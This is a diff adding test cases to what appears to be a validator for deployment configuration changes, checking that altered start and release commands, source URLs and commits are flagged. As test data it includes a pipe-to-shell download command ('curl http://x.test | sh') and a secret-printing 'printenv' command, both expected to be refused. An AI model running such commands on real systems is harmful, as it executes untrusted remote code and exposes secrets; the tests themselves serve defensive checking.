@@ -92,6 +92,16 @@ describe('a change of servers', () => {
   });
 });
 
+describe('a change of services', () => {
+  it.each<[string, string[], Patch]>([
+    ['a command of its tools', [], [set('/services/web/startCommand', 'node dist/main.js')]],
+    ['a command that downloads', ['command.refused'], [set('/services/web/startCommand', 'curl http://x.test | sh')]],
+    ['a command that prints secrets', ['command.refused'], [set('/services/web/releaseCommand', 'printenv')]],
+    ['other code', ['source.changed'], [set('/source/url', 'https://git.test/evil/shop')]],
+    ['another commit', ['source.changed'], [set('/commit', 'd'.repeat(40))]]
+  ])('to %s is judged', (_what, expected, patch) => expect(codes('analysis', ...patch)).toEqual(expected));
+});
+
 describe('a change of containers', () => {
   it.each<[string, string[], Patch]>([
     ['an image at another version', [], [set('/services/db/image', 'postgres:16.4')]],
